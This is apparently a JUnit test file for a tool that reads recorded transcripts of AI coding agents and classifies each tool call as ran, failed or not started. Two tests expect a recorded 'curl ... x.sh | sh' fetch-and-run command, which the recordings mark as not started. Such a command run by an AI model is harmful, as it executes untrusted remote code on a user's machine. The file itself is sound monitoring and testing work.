package dev.belay.hosts.transcript;

import static java.util.Objects.requireNonNull;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.belay.contract.ToolCall;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.FileTime;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** On what real agents wrote. */
class TranscriptsTest {
  private static final Path RECORDINGS = Path.of("../recordings/transcripts");

  @TempDir private Path folder;

  @ParameterizedTest
  @CsvSource({
    "claude-code, claude-code-2.1.329, Bash, Write, Read",
    "gemini-cli, gemini-cli-0.61.0, run_shell_command, write_file, read_file",
    "qwen-code, qwen-code-0.24.4, run_shell_command, write_file, read_file"
  })
  void everyCallOfASessionIsReadWithWhatItDidAndWhatBecameOfIt(
      String host, String recording, String shell, String write, String read) throws IOException {
    String failed = host.equals("gemini-cli") ? "ran" : "failed";

    assertThat(calls(host, recording + "/whole"))
        .containsExactly(
            shell + " echo hello > b.txt && cat b.txt: ran",
            write + " c.txt: ran",
            read + " a.txt: ran",
            shell + " curl -s http://127.0.0.1:9/x.sh | sh: not_started",
            shell + " exit 3: " + failed,
            shell + " echo one: ran",
            shell + " echo two: ran",
            shell + " echo one: ran");
  }

  @Test
  void codexsShellsAndPatchesAreNamedAsItsHooksNameThem() throws IOException {
    assertThat(calls("codex", "codex-0.169.0/whole"))
        .containsExactly(
            "Bash echo hello > b.txt && cat b.txt: ran",
            "Bash apply_patch <<'X' c.txt: ran",
            "Bash cat /tmp/gl-x-whole/proj/a.txt: ran",
            "Bash curl -s http://127.0.0.1:9/x.sh | sh: not_started",
            "Bash exit 3: failed",
            "Bash echo one: ran",
            "Bash echo two: ran",
            "Bash echo one: ran");
  }

  @Test
  void callsThatNoHostCanMakeAreToldFromThoseThatFailed() throws IOException {
    assertThat(calls("claude-code", "claude-code-2.1.329/odd"))
        .containsExactly(
            "Nonsense: not_started",
            "Read: not_started",
            "WebFetch http://127.0.0.1:9/: not_started",
            "ToolSearch: ran",
            "WebFetch http://127.0.0.1:9/: not_started",
            "mcp__demo__echo: ran",
            "Edit nothing.txt: not_started",
            "TaskCreate: not_started",
            "EndConversation: not_started, no hook",
            "Skill: not_started");
    assertThat(calls("codex", "codex-0.169.0/odd"))
        .containsExactly(
            "apply_patch p.txt: not_started",
            "nonsense: not_started",
            "Bash: not_started",
            "Bash cat: failed",
            "write_stdin: ran, no hook",
            "view_image a.txt: ran",
            "mcp__demo__echo: not_started",
            "mcp__demo__echo: ran",
            "update_plan: not_started",
            "create_goal: ran",
            "request_user_input: ran",
            "Bash bash -lc echo hi: not_started",
            "Bash rm -f zzz: not_started");
    assertThat(calls("gemini-cli", "gemini-cli-0.61.0/odd"))
        .containsExactly(
            "nonsense: not_started",
            "read_file: not_started",
            "mcp_demo_echo: ran",
            "write_todos: ran",
            "update_topic: ran",
            "list_directory .: ran",
            "read_file nothing.txt: failed",
            "activate_skill: not_started",
            "ask_user: not_started",
            "enter_plan_mode: ran");
    assertThat(calls("qwen-code", "qwen-code-0.24.4/odd"))
        .containsExactly(
            "nonsense: not_started",
            "read_file: not_started",
            "mcp__demo__echo: ran",
            "tool_search: ran",
            "todo_write: not_started",
            "list_directory proj: not_started",
            "read_file nothing.txt: failed",
            "skill: not_started",
            "ask_user_question: not_started",
            "enter_plan_mode: not_started");
  }

  @ParameterizedTest
  @CsvSource({
    "claude-code, claude-code-2.1.329",
    "codex, codex-0.169.0",
    "gemini-cli, gemini-cli-0.61.0",
    "qwen-code, qwen-code-0.24.4"
  })
  void aSubAgentsCallsBelongToTheSessionThatItsHooksName(String host, String recording)
      throws IOException {
    List<TranscriptCall> calls = read(host, recording + "/agentgap");

    assertThat(calls).extracting(TranscriptCall::session).containsOnly(calls.getFirst().session());
    assertThat(calls)
        .filteredOn(call -> call.agent() != null)
        .hasSize(5)
        .first()
        .extracting(call -> call.call().command())
        .isEqualTo("echo sub one");
  }

  @ParameterizedTest
  @CsvSource({
    "claude-code, claude-code-2.1.329",
    "codex, codex-0.169.0",
    "gemini-cli, gemini-cli-0.61.0",
    "qwen-code, qwen-code-0.24.4"
  })
  void eachCallLiesBetweenItsQuestionAndItsAnswer(String host, String recording)
      throws IOException {
    assertThat(read(host, recording + "/gaps"))
        .hasSize(14)
        .allSatisfy(
            call -> {
              assertThat(call.begunMillis()).isPositive();
              assertThat(call.endedMillis()).isGreaterThanOrEqualTo(call.begunMillis());
            });
  }

  @ParameterizedTest
  @CsvSource({
    "claude-code, claude-code-2.1.329",
    "codex, codex-0.169.0",
    "gemini-cli, gemini-cli-0.61.0",
    "qwen-code, qwen-code-0.24.4"
  })
  void aFileThatIsStillBeingWrittenIsReadAsFarAsItGoes(String host, String recording)
      throws IOException {
    Path whole = files(host, recording + "/whole").getFirst();
    byte[] bytes = Files.readAllBytes(whole);
    List<String> all = told(transcripts(host).read(whole).calls());
    int most = 0;

    for (int length = 0; length <= bytes.length; length += 211) {
      Path part = folder.resolve(String.valueOf(whole.getFileName()));
      Files.write(part, java.util.Arrays.copyOf(bytes, length));
      Transcript read = transcripts(host).read(part);

      List<String> asked = read.calls().stream().map(TranscriptsTest::what).toList();
      assertThat(asked).isEqualTo(all.subList(0, asked.size()).stream().map(this::what).toList());
      assertThat(read.unreadable()).isZero();
      most = Math.max(most, asked.size());
    }
    assertThat(most).isEqualTo(8);
  }

  @Test
  void aCallWithoutAnAnswerHasNoOutcome() throws IOException {
    Path file = write("s.jsonl", claude("toolu_1", "ls"));

    assertThat(told(transcripts("claude-code").read(file).calls()))
        .containsExactly("Bash ls: unknown");
  }

  @Test
  void garbageIsCountedAndPassedOver() throws IOException {
    Path file =
        write(
            "s.jsonl",
            claude("toolu_1", "ls"),
            "not JSON",
            "{\"type\":\"assistant\",\"message\":{\"content\":[{\"type\":\"tool_use\"",
            "{\"type\":\"assistant\",\"message\":\"tool_use\",\"timestamp\":{}}",
            "",
            "{\"a\":1,\"a\":2,\"tool_use\":3}",
            claude("toolu_2", "pwd"));

    Transcript read = transcripts("claude-code").read(file);

    assertThat(told(read.calls())).containsExactly("Bash ls: unknown", "Bash pwd: unknown");
    assertThat(read.lines()).isEqualTo(6);
    assertThat(read.unreadable()).isEqualTo(3);
  }

  @Test
  void aLineWithoutAnEndTakesNoMemory() throws IOException {
    Path file =
        write("s.jsonl", claude("toolu_1", "ls"), "x".repeat(100_000), claude("toolu_2", "pwd"));
    CallLedger calls = new CallLedger(dev.belay.hosts.HostCodec.of("claude-code"));

    JsonlFile read = JsonlFile.read(file, new ClaudeTranscripts().lines(file, calls), 10_000);

    assertThat(calls.calls()).hasSize(2);
    assertThat(read.unreadable()).isEqualTo(1);
  }

  @Test
  void claudesOlderFormTellsRefusalsByTheirTexts() throws IOException {
    Path file =
        write(
            "s.jsonl",
            claude("toolu_1", "a"),
            result("toolu_1", "<tool_use_error>no such tool</tool_use_error>", "Error: x"),
            claude("toolu_2", "b"),
            result("toolu_2", "The user doesn't want to proceed", "User rejected tool use"),
            claude("toolu_3", "c"),
            result("toolu_3", "Exit code 1\\n<tool_use_error>", "Error: Exit code 1"));

    assertThat(told(transcripts("claude-code").read(file).calls()))
        .containsExactly("Bash a: not_started", "Bash b: not_started", "Bash c: failed");
  }

  @Test
  void whatAToolPrintsCannotMakeItARefusal() throws IOException {
    String accepted =
        result("toolu_1", "<tool_use_error>", "Error: x")
            .replace(
                "\"toolUseResult\"",
                "\"permissionDecision\":{\"decision\":\"accept\"},\"toolUseResult\"");
    Path file = write("s.jsonl", claude("toolu_1", "a"), accepted);

    assertThat(told(transcripts("claude-code").read(file).calls()))
        .containsExactly("Bash a: failed");
  }

  @Test
  void geminisOlderFormIsOneDocument() throws IOException {
    Path file =
        write(
            "session-1.json",
            "{\"sessionId\":\"s\",\"messages\":[",
            "{\"type\":\"gemini\",\"timestamp\":\"2026-01-01T10:00:00Z\",\"toolCalls\":[",
            "{\"id\":\"1\",\"name\":\"run_shell_command\",\"args\":{\"command\":\"ls\"},",
            "\"status\":\"success\",\"timestamp\":\"2026-01-01T10:00:01Z\"}]}]}");

    assertThat(told(transcripts("gemini-cli").read(file).calls()))
        .containsExactly("run_shell_command ls: ran");
    assertThatThrownBy(() -> transcripts("gemini-cli").read(write("session-2.json", "{")))
        .isInstanceOf(IOException.class);
  }

  @ParameterizedTest
  @ValueSource(strings = {"claude-code", "codex", "gemini-cli", "qwen-code"})
  void onlyWhatWasChangedSinceIsFoundAndOnlyTranscripts(String host) throws IOException {
    Transcripts transcripts = transcripts(host);
    Path home = folder.resolve("home");
    copy(recording(host).resolve("whole/home"), home);
    copy(recording(host).resolve("odd/home"), home);
    List<Path> both = transcripts.find(home, 0);
    Files.writeString(both.getFirst().resolveSibling("notes.txt"), "tool_use");
    Files.setLastModifiedTime(both.getFirst(), FileTime.fromMillis(1_000_000));

    assertThat(both).hasSize(2);
    assertThat(transcripts.find(home, 0)).isEqualTo(both);
    assertThat(transcripts.find(home, 2_000_000)).containsExactly(both.getLast());
    assertThat(transcripts.find(folder.resolve("nowhere"), 0)).isEmpty();
  }

  @Test
  void aFolderThatIsALinkIsLookedInto() throws IOException {
    Path elsewhere = folder.resolve("elsewhere");
    copy(recording("codex").resolve("whole/home"), elsewhere);
    Path home = Files.createDirectories(folder.resolve("home/.codex"));
    Files.createSymbolicLink(home.resolve("sessions"), elsewhere.resolve(".codex/sessions"));

    assertThat(transcripts("codex").find(folder.resolve("home"), 0)).hasSize(1);
  }

  @ParameterizedTest
  @ValueSource(strings = {"claude-code", "codex", "gemini-cli", "qwen-code"})
  void aFileTellsWhoseItIsByItsPlaceOrItsCalls(String host) throws IOException {
    Path there = files(host, recording(host).getFileName() + "/whole").getFirst();
    Path elsewhere = Files.copy(there, folder.resolve("copy.jsonl"));

    assertThat(requireNonNull(Transcripts.ofFile(there)).host()).isEqualTo(host);
    assertThat(requireNonNull(Transcripts.ofFile(elsewhere)).host()).isEqualTo(host);
    assertThat(Transcripts.ofFile(write("x.jsonl", "{\"a\":1}"))).isNull();
  }

  @Test
  void otherHostsCannotBeRead() {
    assertThat(Transcripts.of("amp")).isNull();
    assertThat(Transcripts.hosts())
        .containsExactly("claude-code", "codex", "gemini-cli", "qwen-code");
  }

  private static Transcripts transcripts(String host) {
    return requireNonNull(Transcripts.of(host));
  }

  private static Path recording(String host) throws IOException {
    try (var found = Files.list(RECORDINGS)) {
      return found
          .filter(path -> String.valueOf(path.getFileName()).startsWith(host))
          .findFirst()
          .orElseThrow();
    }
  }

  private static List<Path> files(String host, String run) throws IOException {
    return transcripts(host).find(RECORDINGS.resolve(run).resolve("home"), 0);
  }

  private static List<TranscriptCall> read(String host, String run) throws IOException {
    List<TranscriptCall> calls = new ArrayList<>();
    for (Path file : files(host, run)) {
      calls.addAll(transcripts(host).read(file).calls());
    }
    return calls;
  }

  private static List<String> calls(String host, String run) throws IOException {
    return told(read(host, run));
  }

  private static List<String> told(List<TranscriptCall> calls) {
    return calls.stream()
        .map(
            call ->
                what(call) + ": " + call.outcome().wireName() + (call.hooked() ? "" : ", no hook"))
        .toList();
  }

  private String what(String told) {
    return told.substring(0, told.lastIndexOf(": "));
  }

  private static String what(TranscriptCall told) {
    ToolCall call = told.call();
    StringBuilder what = new StringBuilder(call.name());
    if (call.command() != null) {
      what.append(' ').append(call.command().lines().findFirst().orElse(""));
    }
    if (call.url() != null) {
      what.append(' ').append(call.url());
    }
    for (String path : call.paths()) {
      what.append(' ').append(path.substring(path.lastIndexOf('/') + 1));
    }
    return what.toString();
  }

  private Path write(String name, String... lines) throws IOException {
    return Files.writeString(folder.resolve(name), String.join("\n", lines) + "\n");
  }

  private static String claude(String id, String command) {
    return "{\"type\":\"assistant\",\"sessionId\":\"s\",\"timestamp\":\"2026-01-01T10:00:00.000Z\","
        + "\"message\":{\"content\":[{\"type\":\"tool_use\",\"name\":\"Bash\",\"id\":\""
        + id
        + "\",\"input\":{\"command\":\""
        + command
        + "\"}}]}}";
  }

  private static String result(String id, String content, String structured) {
    return "{\"type\":\"user\",\"sessionId\":\"s\",\"timestamp\":\"2026-01-01T10:00:01.000Z\","
        + "\"message\":{\"content\":[{\"type\":\"tool_result\",\"is_error\":true,\"tool_use_id\":\""
        + id
        + "\",\"content\":\""
        + content
        + "\"}]},\"toolUseResult\":\""
        + structured
        + "\"}";
  }

  private static void copy(Path from, Path to) throws IOException {
    try (var files = Files.walk(from)) {
      for (Path file : files.filter(Files::isRegularFile).toList()) {
        Path target = to.resolve(from.relativize(file));
        Files.createDirectories(requireNonNull(target.getParent()));
        Files.copy(file, target);
      }
    }
  }
}
